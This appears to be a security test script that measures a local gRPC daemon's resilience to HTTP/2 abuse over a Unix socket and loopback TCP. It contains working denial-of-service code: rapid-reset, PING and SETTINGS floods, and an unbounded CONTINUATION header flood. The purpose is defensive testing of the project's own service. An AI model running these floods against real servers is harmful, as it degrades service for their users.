"""S3: HTTP/2 turned against the daemon. What protects stands before HTTP/2: who may not connect to
the Unix socket costs nothing. Who may, and every local user over loopback TCP, can cost processor
time (this gRPC decodes headers without a bound); what that comes to is printed, and memory and
other clients' calls stay within their bounds.
"""

import contextlib
import os
import socket
import struct
import threading
import time

import common
import heliograph as hg
from served import served

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
OTHER_USER = 65534
KEPT = 20  # MiB


def frame(kind, flags=0, stream=0, body=b""):
    head = struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream)
    return head + body


def literal(name, value):
    """A header that is not indexed (RFC 7541, 6.2.2); both shorter than 127."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = (
    b"\x83\x86"  # POST, http
    + literal(b":path", b"/heliograph.v1.Renderer/GetServerInfo")
    + literal(b":authority", b"x")
    + literal(b"content-type", b"application/grpc")
    + literal(b"te", b"trailers")
)


def connect(daemon, over):
    if over == "tcp":
        host, port = daemon.tcp.rsplit(":", 1)
        connection = socket.create_connection((host, int(port)), timeout=10)
    else:
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(10)
        connection.connect(daemon.path)
    connection.sendall(PREFACE + frame(SETTINGS))
    threading.Thread(target=swallow, args=(connection,), daemon=True).start()
    return connection


def swallow(connection):
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def header_flood(connection, size):
    """One header of a huge claimed length, in frames that never end it."""
    huge = b"\x00\x7f\xff\xff\xff\x7f"  # a literal whose name is 256 MiB long
    connection.sendall(frame(HEADERS, 0, 1, CALL + huge))
    part = frame(CONTINUATION, 0, 1, bytes(16_000))
    for _ in range(size // len(part)):
        connection.sendall(part)


def rapid_reset(connection, count):
    batch = b""
    for i in range(count):
        stream = 2 * i + 1
        batch += frame(HEADERS, END_HEADERS, stream, CALL)
        batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        if i % 100 == 99:
            connection.sendall(batch)
            batch = b""


def pings(connection, count):
    batch = frame(PING, 0, 0, bytes(8)) * 1000
    for _ in range(count // 1000):
        connection.sendall(batch)


def settings(connection, count):
    batch = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000
    for _ in range(count // 1000):
        connection.sendall(batch)


class Attack:
    """Cost of an attack to the daemon."""

    def __init__(self, daemon, client):
        self.daemon, self.client = daemon, client

    def __call__(self, attack, over, size):
        """Processor seconds, MiB kept, and the slowest call of somebody else meanwhile."""
        cpu, memory = self.daemon.cpu_seconds(), common.resident(self.daemon.pid)
        slowest, done = [0.0], threading.Event()
        other = threading.Thread(target=self._call, args=(slowest, done))
        other.start()
        with contextlib.suppress(OSError), connect(self.daemon, over) as connection:
            attack(connection, size)
            time.sleep(0.3)
        self._settle()
        done.set()
        other.join()
        return self.daemon.cpu_seconds() - cpu, self._kept(memory), slowest[0]

    def _kept(self, before, limit=30.0):
        """MiB that stay; the daemon hands freed pages back from time to time."""
        end = time.perf_counter() + limit
        while True:
            kept = (common.resident(self.daemon.pid) - before) / 2**20
            if kept <= KEPT or time.perf_counter() > end:
                return kept
            time.sleep(0.2)

    def _call(self, slowest, done):
        while not done.is_set():
            start = time.perf_counter()
            self.client.info()
            slowest[0] = max(slowest[0], time.perf_counter() - start)
            time.sleep(0.01)

    def _settle(self, limit=120.0):
        """Until the daemon has worked off what it was sent."""
        end = time.perf_counter() + limit
        while time.perf_counter() < end:
            before = self.daemon.cpu_seconds()
            time.sleep(0.3)
            if self.daemon.cpu_seconds() - before < 0.1:
                return


def refused(daemon, count):
    """Processor seconds a connection of another user costs; None where there is no other user."""
    if os.geteuid() != 0:
        return None
    cpu = daemon.cpu_seconds()
    child = os.fork()
    if child == 0:
        os.setgroups([])
        os.setresgid(OTHER_USER, OTHER_USER, OTHER_USER)
        os.setresuid(OTHER_USER, OTHER_USER, OTHER_USER)
        for _ in range(count):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
                connection.connect(daemon.path)
                connection.sendall(PREFACE + bytes(100_000))
        os._exit(0)
    os.waitpid(child, 0)
    time.sleep(0.2)
    return (daemon.cpu_seconds() - cpu) / count


def main():
    with (
        common.Report("S3 abuse of HTTP/2") as report,
        served("--listen", "127.0.0.1:0") as daemon,
        hg.connect(daemon.socket) as client,
    ):
        common.stage(client)
        attack = Attack(daemon, client)
        cost = refused(daemon, common.size(1000, 200))
        if cost is not None:
            report.figure("another user on the socket: CPU a connection", cost, 0.1, "s")
        for over in ("unix", "tcp"):
            attack(rapid_reset, over, 1000)  # what the allocator keeps
            cpu, grown, slowest = attack(rapid_reset, over, common.size(20_000, 5_000))
            report.figure(f"{over}: rapid reset: memory kept", grown, KEPT, "MiB", slack=False)
            report.figure(f"{over}: rapid reset: CPU", cpu, 3, "s")
            report.figure(f"{over}: rapid reset: others' slowest call", slowest, 1, "s")
            for name, flood in (("ping", pings), ("settings", settings)):
                size = common.size(500_000, 50_000)
                attack(flood, over, size)  # what the allocator keeps
                cpu, grown, slowest = attack(flood, over, size)
                report.figure(f"{over}: {name} flood: memory kept", grown, KEPT, "MiB", slack=False)
                report.figure(f"{over}: {name} flood: others' slowest call", slowest, 1, "s")
            size = common.size(8, 2) << 20
            cpu, grown, slowest = attack(header_flood, over, size)
            each = cpu / (size >> 20)
            print(f"  {over}: endless headers: {each:.2f} s of CPU a MiB (no promise)")
            report.figure(f"{over}: endless headers: others' slowest call", slowest, 1, "s")
        report.figure("crashes", int(daemon.process.poll() is not None), 0, slack=False)


if __name__ == "__main__":
    main()
